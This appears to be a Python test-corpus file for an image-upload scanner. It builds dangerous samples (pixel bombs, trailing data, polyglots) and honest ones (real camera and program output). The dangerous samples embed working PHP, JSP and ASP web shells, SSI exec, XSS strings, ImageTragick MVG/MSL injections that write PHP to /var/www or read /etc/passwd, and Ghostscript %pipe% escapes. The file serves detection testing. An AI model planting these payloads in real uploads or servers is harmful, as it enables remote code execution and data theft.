"""Images: what hides in them, and what honest cameras and programs write."""

import struct
import zlib
from collections.abc import Callable

from tests.corpus.files import image_samples as i
from tests.corpus.files.case import FileCase

PHP = b"<?php system($_GET['c']); ?>"
SHORT = b"<?=`$_GET[0]`?>"
JSP = b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'
SSI = b'<!--#exec cmd="id" -->'
SCRIPT = b"<script>alert(document.domain)</script>"
HANDLER = b'"><img src=x onerror=alert(1)>'

_ACTIVE = "image_metadata_active"
_TRAILING = "image_trailing_data"
_DAMAGED = "image_not_read"
_LARGE = "image_too_large"
_FRAMES = "image_too_many_frames"
_DELEGATE = "image_delegate"


def _case(name: str, data: Callable[[], bytes], *reasons: str) -> FileCase:
    return FileCase(name, data, frozenset(reasons))


def _bmp(width: int, height: int) -> bytes:
    return b"BM" + struct.pack("<IHHIIiiHHIIiiII", 58, 0, 0, 54, 40, width, height, 1, 1, 0, 0, 0, 0, 0, 0) + bytes(64)


def _jpeg_claiming(width: int, height: int) -> bytes:
    jpeg = i.encoded("JPEG")
    at = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]


def _late_size() -> bytes:
    """Its size stands behind more than the first window."""
    jpeg = _jpeg_claiming(60000, 60000)
    return jpeg[:20] + b"".join(i.segment(0xEB, bytes(60000)) for _ in range(3)) + jpeg[20:]


def _gif_frames(count: int) -> bytes:
    frame = b",\0\0\0\0\1\0\1\0\0\2\2D\1\0"
    return b"GIF89a\1\0\1\0\x80\0\0\xff\xff\xff\0\0\0" + frame * count + b";"


def _webp_canvas(side: int) -> bytes:
    size = (side - 1).to_bytes(3, "little") * 2
    body = b"WEBP" + i.riff_chunk(b"VP8X", b"\2\0\0\0" + size) + i.encoded("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _apng_claiming(frames: int) -> bytes:
    return i.png_with(b"acTL", struct.pack(">II", frames, 0))


def _jpeg_xl(height: int) -> bytes:
    bits = 3 << 1 | (height - 1) << 3 | 1 << 33
    return b"\xff\x0a" + bits.to_bytes(12, "little") + bytes(80)


def _jpeg_2000(*grid: int, **options: bool) -> bytes:
    """The code stream claims a size, and where it begins; the boxes around it, if any, tell the true one."""
    image = i.encoded("JPEG2000", **options)
    at, claims = image.index(b"\xff\x4f\xff\x51") + 8, struct.pack(f">{len(grid)}I", *grid)
    return image[:at] + claims + image[at + len(claims) :]


def _packed(data: bytes) -> bytes:
    return zlib.compress(data)


def _user_comment(text: str) -> bytes:
    return b"Exif\0\0" + i.tiff((0x9C9C, 1, 2 * len(text), text.encode("utf-16-le")))


_SMALLER = tuple((tag, 4, 1, b"\xff\0\0\0") for tag in (0x100, 0x101))
_EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n"
_MVG = (
    b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/i.jpg\"|id; echo \")'\n"
    b"pop graphic-context\n"
)
_MSL = (
    b'<?xml version="1.0"?>\n<image>\n<read filename="caption:&lt;?php 1;?&gt;"/>\n'
    b'<write filename="info:/var/www/x.php"/>\n</image>\n'
)
_SVG_MSL = (
    b'<svg width="9" height="9" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    b'<image xlink:href="%b" x="0" y="0" height="9px" width="9px"/></svg>'
)

_HREFS = (
    b"msl:/tmp/x.jpg", b"ephemeral:/etc/passwd", b"label:@/etc/passwd", b"text:/etc/passwd", b"vid:msl:/tmp/php*",
    b"https://example.com/&quot;|id&quot;",
)  # fmt: skip
_PREVIEW = b"\xc5\xd0\xd3\xc6" + struct.pack("<IIIIII", 30, 90, 0, 0, 0, 0) + b"\xff\xff" + _EPS
_ESCAPE = b"{ null restore } stopped { pop } if mark /OutputFile (%pipe%id) currentdevice putdeviceprops\n"
_IPTC = b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x0f\x1c\x02x\0\x0aA b <i>c</i>\0"
_LINKED = b"https://example.org/search?q=Open+Sans|Roboto&amp;display=swap"
_QUOTED = b'data:," style="fill:#000;font-family:&quot;Arial&quot;;font-style:italic" fill="url(#text)'
_PROMPT = {"prompt": '{"3": {"inputs": {"text": "a < b, 50 % <lora:x:1>"}}}'}
_DRAW = {"Software": "draw", "mxfile": "%3Cmxfile%20host%3D%22x%22%3E"}
_LINK = b"<a href='javascript:alert(1)'>x</a>"

_DANGEROUS = (
    # More pixels than anybody should decode
    _case("gigapixels.png", lambda: i.png_header(65535, 65535), _LARGE),
    _case("wide.png", lambda: i.png_header(2**31 - 1, 1), _LARGE),
    _case("gigapixels.jpg", lambda: _jpeg_claiming(65500, 65500), _LARGE),
    _case("late-size.jpg", _late_size, _LARGE),
    _case("gigapixels.bmp", lambda: _bmp(65000, 65000), _LARGE, _DAMAGED),
    _case("upside-down.bmp", lambda: _bmp(65000, -65000), _LARGE, _DAMAGED),
    _case("gigapixels.gif", lambda: b"GIF89a\xff\xff\xff\xff" + _gif_frames(1)[10:], _LARGE),
    _case("gigapixels.tif", lambda: i.tiff(width=70000, height=70000), _LARGE),
    _case("gigapixels-of-two-sizes.tif", lambda: i.tiff(*_SMALLER, width=60000, height=60000), _LARGE),
    _case("gigapixels-signed.tif", lambda: i.tiff_pages((9, "<i", 60000), (4, "<I", 9)), _LARGE),
    _case("gigapixels-of-eight-bytes.tif", lambda: i.tiff_pages((17, "<q", 60000), (4, "<I", 9)), _LARGE),
    _case("size-in-fractions.tif", lambda: i.tiff_pages((11, "<f", 60000), (4, "<I", 9)), _DAMAGED),
    _case("gigapixels.webp", lambda: _webp_canvas(1 << 24), _LARGE),
    _case("gigapixels.ico", lambda: i.icon(i.png_header(65535, 65535)), _LARGE),
    _case("gigapixels.heic", lambda: i.hevc_like(b"heic", 60000, 60000), _LARGE),
    _case("gigapixels.avif", lambda: i.hevc_like(b"avif", 60000, 60000), _LARGE),
    *(
        _case(f"gigapixels-{brand.decode()}.heic", lambda brand=brand: i.hevc_like(brand, 60000, 60000), _LARGE)
        for brand in (b"abcd", b"MA1B", b"miaf", b"avci", b"1pic", b"unif", b"mif3")
    ),
    _case("gigapixels.jxl", lambda: _jpeg_xl(1 << 30), _LARGE),
    _case(
        "gigapixels.psd",
        lambda: b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 60000, 60000, 8, 3) + bytes(99),
        _LARGE,
    ),
    _case("gigapixels.j2k", lambda: _jpeg_2000(60000, 60000, no_jp2=True), _LARGE),
    _case("gigapixels-in-the-stream.jp2", lambda: _jpeg_2000(60000, 60000), _LARGE),
    _case("gigapixels-in-a-box-without-end.jp2", lambda: _jpeg_2000(60000, 60000)[:-1], _LARGE),
    _case("gigapixels.tga", lambda: i.encoded("TGA")[:12] + b"\xff" * 4 + i.encoded("TGA")[16:], _LARGE),
    _case("frames.gif", lambda: _gif_frames(6000), _FRAMES),
    _case("frames.png", lambda: _apng_claiming(2**31 - 1), _FRAMES),
    _case("behind-the-first.jpg", lambda: i.multi_picture(_jpeg_claiming(65500, 65500)), _LARGE),
    # Data behind the end
    *(
        _case(f"behind-the-end.{suffix}", lambda kind=kind: i.encoded(kind) + b"\x01\x02\x03 more " * 9, _TRAILING)
        for kind, suffix in (("PNG", "png"), ("JPEG", "jpg"), ("GIF", "gif"), ("WEBP", "webp"), ("BMP", "bmp"))
    ),
    _case("php-behind.png", lambda: i.encoded("PNG") + PHP, _TRAILING, "polyglot"),
    _case("php-behind-zeros.gif", lambda: i.encoded("GIF") + bytes(70000) + PHP, _TRAILING, "polyglot"),
    _case("older-picture.png", lambda: i.encoded("PNG") + i.encoded("PNG")[-300:], _TRAILING),
    _case("second-gif.gif", lambda: i.encoded("GIF") * 2, _TRAILING),
    _case("behind-the-film.jpg", lambda: i.encoded("JPEG") + i.film() + b"\x01rest", _TRAILING),
    _case("false-samsung.jpg", lambda: i.encoded("JPEG") + b"\x01junk" + i.samsung_trailer((1, b"a", b"b")), _TRAILING),
    _case("cut-second.jpg", lambda: i.encoded("JPEG") + i.encoded("JPEG")[:200], _TRAILING),
    # Script where nobody looks
    _case("comment-php.jpg", lambda: i.jpeg_with(0xFE, PHP), _ACTIVE),
    _case("comment-short.jpg", lambda: i.jpeg_with(0xFE, SHORT), _ACTIVE),
    _case("comment-script.jpg", lambda: i.encoded("JPEG", comment=SCRIPT), _ACTIVE),
    _case("app13.jpg", lambda: i.jpeg_with(0xED, b"Photoshop 3.0\x008BIM" + JSP), _ACTIVE),
    _case("app15.jpg", lambda: i.jpeg_with(0xEF, SHORT), _ACTIVE),
    _case("exif-php.jpg", lambda: i.encoded("JPEG", exif=i.exif(comment=PHP)), _ACTIVE),
    _case("exif-short.jpg", lambda: i.encoded("JPEG", exif=i.exif(comment=SHORT)), _ACTIVE),
    _case("exif-handler.jpg", lambda: i.encoded("JPEG", exif=i.exif(comment=HANDLER)), _ACTIVE),
    _case("exif-utf16.jpg", lambda: i.jpeg_with(0xE1, _user_comment("<script>alert(1)</script>")), _ACTIVE),
    _case("xmp-asp.jpg", lambda: i.encoded("JPEG", xmp=i.XMP % b"<% execute(request(1)) %>"), _ACTIVE),
    _case("xmp-script.webp", lambda: i.encoded("WEBP", xmp=i.XMP % SCRIPT), _ACTIVE),
    _case("exif-php.webp", lambda: i.encoded("WEBP", exif=i.exif(comment=PHP)), _ACTIVE),
    _case("chunk-php.webp", lambda: i.webp_with(b"ABCD", PHP), _ACTIVE),
    _case("icc-php.jpg", lambda: i.encoded("JPEG", icc_profile=i.profile() + PHP), _ACTIVE),
    _case("icc-php.png", lambda: i.encoded("PNG", icc_profile=i.profile() + PHP), _ACTIVE),
    _case("text-php.png", lambda: i.png_with_texts({"Comment": PHP.decode()}, zipped=False), _ACTIVE),
    _case("ztxt-script.png", lambda: i.png_with_texts({"Comment": SCRIPT.decode() * 30}, zipped=True), _ACTIVE),
    _case("itxt-script.png", lambda: i.png_with(b"iTXt", b"a\0\1\0en\0a\0" + _packed(SCRIPT)), _ACTIVE),
    _case("itxt-javascript.png", lambda: i.png_with(b"iTXt", b"a\0\0\0\0\0" + _LINK), _ACTIVE),
    _case("keyword.png", lambda: i.png_with(b"tEXt", SHORT + b"\0x"), _ACTIVE),
    _case("exif-ssi.png", lambda: i.encoded("PNG", exif=i.exif(comment=SSI)), _ACTIVE),
    _case("palette-php.png", lambda: i.png_with(b"PLTE", (SHORT + b"  ")[:15] + bytes(3)), _ACTIVE),
    _case("own-chunk.png", lambda: i.png_with(b"phPp", PHP), _ACTIVE),
    _case("comment-php.gif", lambda: i.gif_with(0xFE, [PHP]), _ACTIVE),
    _case("comment-script.gif", lambda: i.encoded("GIF", comment=SCRIPT), _ACTIVE),
    _case("split-comment.gif", lambda: i.gif_with(0xFE, [b"x" * 200, SHORT]), _ACTIVE),
    _case("application-php.gif", lambda: i.gif_with(0xFF, [b"NETSCAPE2.0", PHP]), _ACTIVE),
    _case("xmp-php.gif", lambda: i.gif_xmp(i.XMP % PHP), _ACTIVE),
    _case("palette-php.gif", lambda: i.encoded("GIF")[:13] + SHORT + i.encoded("GIF")[13 + len(SHORT) :], _ACTIVE),
    _case("description-php.tif", lambda: i.tiff((0x10E, 2, len(PHP), PHP)), _ACTIVE, "polyglot"),
    _case("xmp-script.tif", lambda: i.tiff((0x2BC, 1, 900, (i.XMP % SCRIPT).ljust(900))), _ACTIVE, "polyglot"),
    _case(
        "palette-php.bmp", lambda: i.encoded("BMP", "P")[:54] + PHP + i.encoded("BMP", "P")[54 + len(PHP) :], _ACTIVE
    ),
    _case("pixels-php.bmp", lambda: i.encoded("BMP")[:-60] + PHP + bytes(60 - len(PHP)), "polyglot"),
    _case("pixels-php.png", lambda: i.png_with(b"IDAT", PHP), "polyglot"),
    _case("second-picture-php.jpg", lambda: i.multi_picture(i.jpeg_with(0xFE, PHP)), _ACTIVE),
    _case("film-php.jpg", lambda: i.encoded("JPEG") + i.film(PHP), "polyglot"),
    # What ImageMagick and Ghostscript would run
    _case("imagetragick.mvg", lambda: _MVG, _DELEGATE),
    _case("imagetragick.txt", lambda: b"\n# sizes\n" + _MVG, _DELEGATE),
    _case("script.msl", lambda: _MSL, _DELEGATE),
    _case(
        "script.xml", lambda: _MSL.replace(b"<image>", b"<!-- x --><msl>").replace(b"</image>", b"</msl>"), _DELEGATE
    ),
    *(
        _case(f"delegate-{number}.svg", lambda href=href: _SVG_MSL % href, _DELEGATE)
        for number, href in enumerate(_HREFS)
    ),
    _case("pipe.eps", lambda: _EPS + b"(%pipe%id > /tmp/x) (w) file\n", _DELEGATE),
    _case("delete.ps", lambda: b"%!PS\n(/tmp/x) deletefile\n", _DELEGATE),
    _case("escape.ps", lambda: b"%!PS\nsystemdict /.forceput get\n/OutputFile (%pipe%id)\n", _DELEGATE),
    _case("preview.eps", lambda: _PREVIEW + _ESCAPE, _DELEGATE),
    # Damaged
    _case("cut.png", lambda: i.encoded("PNG")[:-20], _DAMAGED),
    _case("cut.jpg", lambda: i.encoded("JPEG")[:300], _DAMAGED),
    _case("cut.gif", lambda: i.encoded("GIF")[:-40], _DAMAGED),
    _case("cut.webp", lambda: i.encoded("WEBP")[:-40], _DAMAGED),
    _case("height-alone.tif", lambda: i.tiff().replace(b"\0\1\4\0", b"\xfe\0\4\0", 1), _DAMAGED),
    _case("width-alone.tif", lambda: i.tiff().replace(b"\1\1\4\0", b"\xff\xff\4\0", 1), _DAMAGED),
    _case("loop.tif", lambda: i.tiff()[:4] + struct.pack("<I", 8000), _DAMAGED),
)

_MODES = {"PNG": "1 L LA P RGB RGBA I;16", "JPEG": "L RGB CMYK", "WEBP": "RGB RGBA", "TIFF": "1 L RGB RGBA CMYK I;16",
          "BMP": "1 L P RGB RGBA", "GIF": "1 L P RGB", "TGA": "L P RGB RGBA"}  # fmt: skip
_SUFFIXES = {"PNG": "png", "JPEG": "jpg", "WEBP": "webp", "TIFF": "tif", "BMP": "bmp", "GIF": "gif", "TGA": "tga"}


def _photo(**options: object) -> bytes:
    return i.encoded("JPEG", exif=i.exif(), icc_profile=i.profile(), xmp=i.HONEST_XMP, **options)


_LIVE = b"v2_f31_c  LIVE_1234567     "
_HONEST = (
    *(
        _case(f"{mode.replace(';', '-')}.{_SUFFIXES[kind]}", lambda kind=kind, mode=mode: i.encoded(kind, mode))
        for kind, modes in _MODES.items()
        for mode in modes.split()
    ),
    _case("interlaced.gif", lambda: i.encoded("GIF", interlace=True)),
    _case("best.png", lambda: i.encoded("PNG", size=(300, 200), optimize=True)),
    _case("progressive.jpg", lambda: i.encoded("JPEG", size=(300, 200), progressive=True, quality=95)),
    _case("restarts.jpg", lambda: i.encoded("JPEG", size=(300, 200), restart_marker_blocks=4)),
    _case("photo.jpg", _photo),
    _case("photo-progressive.jpg", lambda: _photo(progressive=True)),
    _case("comment.jpg", lambda: i.encoded("JPEG", comment=b"CREATOR: gd-jpeg v1.0 <quality = 90>, 5 % off <3")),
    _case("photoshop.jpg", lambda: i.jpeg_with(0xED, _IPTC)),
    _case("padded.jpg", lambda: i.encoded("JPEG") + bytes(3000)),
    _case("newline.jpg", lambda: i.encoded("JPEG") + b"\r\n"),
    _case("lost-power.jpg", lambda: i.encoded("JPEG", size=(300, 200))[:-2000]),
    _case("multi-picture.jpg", lambda: i.multi_picture(_photo(), i.encoded("JPEG", "L"))),
    _case("gain-map.jpg", lambda: i.multi_picture(i.encoded("JPEG", "L", xmp=i.HONEST_XMP)) + bytes(16)),
    _case("preview-without-announcement.jpg", lambda: _photo() + b"\xff" * 7 + i.encoded("JPEG")),
    _case("motion-photo.jpg", lambda: _photo() + i.film()),
    _case("motion-photo-padded.jpg", lambda: _photo() + bytes(37) + i.film()),
    _case("samsung.jpg", lambda: _photo() + i.samsung_trailer((0x0A01, b"Image_UTC_Data", b"1700000000000"))),
    _case(
        "samsung-motion.jpg",
        lambda: (
            _photo()
            + i.samsung_trailer((0x0A01, b"Image_UTC_Data", b"1700000000000"), (0x0A30, b"MotionPhoto_Data", i.film()))
        ),
    ),
    _case(
        "samsung-gain-map.jpg",
        lambda: (
            i.multi_picture(i.encoded("JPEG", "L"))
            + i.samsung_trailer((0x0A01, b"Image_UTC_Data", b"1"), (0x0AA1, b"MCC_Data", b"310"))
        ),
    ),
    _case("live.jpg", lambda: _photo() + i.film() + _LIVE),
    _case("animated.png", lambda: i.animated("PNG")),
    _case("animated.gif", lambda: i.animated("GIF", loop=0, duration=50)),
    _case("animated.webp", lambda: i.animated("WEBP", exif=i.exif())),
    _case("pages.tif", lambda: i.animated("TIFF")),
    _case("sequence.avif", lambda: i.animated("AVIF")),
    _case("photo.avif", lambda: i.encoded("AVIF", exif=i.exif(), icc_profile=i.profile(), xmp=i.HONEST_XMP)),
    _case("photo.heic", lambda: i.hevc_like(b"heic", 4032, 3024)),
    _case("photo.jxl", lambda: i.jpeg_xl(i.box(b"Exif", bytes(4) + i.exif()[6:]), i.box(b"xml ", i.HONEST_XMP))),
    _case("drawing.psd", lambda: i.psd(0x0424, i.HONEST_XMP)),
    _case("settings.tif", lambda: i.tiff_settings(0x9286, b"ASCII\0\0\0a < b, 5 % > 3 %")),
    _case("photo.hif", lambda: i.hevc_like(b"avci", 4032, 3024)),
    _case("burst.heic", lambda: i.hevc_like(b"heic", 4032, 3024, more=i.box(b"mpvd", i.film()))),
    _case("photo.jp2", lambda: i.encoded("JPEG2000")),
    _case("photo.j2k", lambda: i.encoded("JPEG2000", no_jp2=True)),
    _case("shifted.j2k", lambda: _jpeg_2000(60048, 60032, 60000, 60000, no_jp2=True)),
    _case("photo.png", lambda: i.encoded("PNG", exif=i.exif(), icc_profile=i.profile())),
    _case("texts.png", lambda: i.png_with_texts(_DRAW, zipped=True)),
    _case("prompt.png", lambda: i.png_with_texts(_PROMPT, zipped=False)),
    _case("xmp.png", lambda: i.png_with(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + i.HONEST_XMP)),
    _case("newline.png", lambda: i.encoded("PNG") + b"\n"),
    _case("comment.gif", lambda: i.encoded("GIF", comment=b"Created with a program <https://example.org>")),
    _case("xmp.gif", lambda: i.gif_xmp(i.HONEST_XMP)),
    _case("no-trailer.gif", lambda: i.encoded("GIF")[:-1]),
    _case("zeros.gif", lambda: i.encoded("GIF") + bytes(5)),
    _case("photo.webp", lambda: i.encoded("WEBP", exif=i.exif(), icc_profile=i.profile(), xmp=i.HONEST_XMP)),
    _case("lossless.webp", lambda: i.encoded("WEBP", lossless=True)),
    _case("compressed.tga", lambda: i.encoded("TGA", compression="tga_rle")),
    _case("compressed.tif", lambda: i.encoded("TIFF", compression="tiff_lzw")),
    _case("photo.tif", lambda: i.encoded("TIFF", exif=i.exif(), icc_profile=i.profile())),
    _case("icon.ico", lambda: i.encoded("ICO", size=(256, 256), sizes=[(16, 16), (32, 32), (256, 256)])),
    _case("bitmap.ico", lambda: i.encoded("ICO", size=(64, 64), sizes=[(16, 16), (32, 32)], bitmap_format="bmp")),
    _case("drawing.eps", lambda: i.encoded("EPS")),
    _case("drawing.svg", lambda: _SVG_MSL % b"data:image/png;base64,iVBORw0KGgo="),
    _case("quoted.svg", lambda: _SVG_MSL % _QUOTED),
    _case("link.svg", lambda: _SVG_MSL.replace(b"<image", b"<a") % _LINKED),
    _case(
        "about-delegates.txt",
        lambda: b"Beware of files that begin with:\n\n" + _MVG + b"and of (%pipe%id) in PostScript.\n",
    ),
    _case("sorted.xml", lambda: b'<?xml version="1.0"?>\n<images><image><title>x</title></image></images>\n'),
)

CASES = (*_DANGEROUS, *_HONEST)
